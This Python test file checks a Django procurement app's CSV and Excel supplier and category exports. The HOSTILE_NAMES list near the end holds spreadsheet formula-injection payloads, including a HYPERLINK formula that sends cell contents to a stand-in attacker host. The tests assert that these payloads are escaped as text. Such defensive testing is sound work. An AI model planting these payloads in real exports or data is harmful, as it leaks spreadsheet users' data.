import csv
import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from workbench.exports import append_inert_row

pytestmark = pytest.mark.django_db


def _rows_of_csv(response):
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_category_table_exports_to_csv_with_the_figures_on_screen(client, company_with_spend):
    client.force_login(company_with_spend.cpo)
    response = client.get(reverse("categories:list"), {"format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    rows = _rows_of_csv(response)
    assert rows[0][:3] == ["Code", "Name", "Level"]
    by_code = {row[0]: row for row in rows[1:]}
    assert set(by_code) == {"IT", "IT.HW", "IT.SW", "FM", "FM.CLEAN"}
    assert by_code["IT.HW"][3] == "IT"
    assert float(by_code["IT"][5]) == pytest.approx(
        float(by_code["IT.HW"][5]) + float(by_code["IT.SW"][5])
    )


def test_supplier_table_exports_to_excel(client, company_with_spend):
    client.force_login(company_with_spend.manager)
    response = client.get(reverse("suppliers:list"), {"format": "xlsx"})
    assert "spreadsheetml" in response["Content-Type"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.values)
    assert rows[0][0] == "Supplier" and "Spend" in rows[0]
    assert {row[0] for row in rows[1:]} == {s.name for s in company_with_spend.suppliers}


def test_a_unit_leads_supplier_export_holds_only_their_units_suppliers(client, company_with_spend):
    client.force_login(company_with_spend.unit_lead)
    response = client.get(reverse("suppliers:list"), {"format": "csv"})
    names = {row[0] for row in _rows_of_csv(response)[1:]}
    # Manufacturing buys hardware and software; the cleaning contractor serves Finance only.
    assert names == {"Dell Technologies Ltd", "Softcat plc"}


HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_name_a_spreadsheet_would_evaluate_reaches_csv_as_text(client, company_with_spend, name):
    supplier = company_with_spend.suppliers[0]
    supplier.name = name
    supplier.save()
    client.force_login(company_with_spend.manager)
    rows = _rows_of_csv(client.get(reverse("suppliers:list"), {"format": "csv"}))
    cells = [row[0] for row in rows[1:]]
    assert "'" + name in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    # Figures stay figures: a spend column still parses as a number.
    spend = rows[0].index("Spend")
    assert all(float(row[spend]) >= 0 for row in rows[1:])


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_name_a_spreadsheet_would_evaluate_reaches_excel_as_text(
    client, company_with_spend, name
):
    supplier = company_with_spend.suppliers[0]
    supplier.name = name
    supplier.save()
    client.force_login(company_with_spend.manager)
    response = client.get(reverse("suppliers:list"), {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    first_column = [row[0] for row in sheet.iter_rows(min_row=2)]
    # XML keeps a carriage return as a line break: compare what follows it.
    named = [cell for cell in first_column if cell.value.strip() == name.strip()]
    assert named and all(cell.data_type == "s" for cell in named)
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    spend = [cell.value for cell in sheet[1]].index("Spend")
    assert all(isinstance(row[spend].value, float | int) for row in sheet.iter_rows(min_row=2))


def test_text_appended_to_an_ordinary_workbook_stays_text():
    """The board pack and the plan's workbook are built sheet by sheet, not write-only."""
    book = Workbook()
    append_inert_row(book.active, ["=1+1", 3, "plain"])
    assert [cell.data_type for cell in book.active[1]] == ["s", "n", "s"]
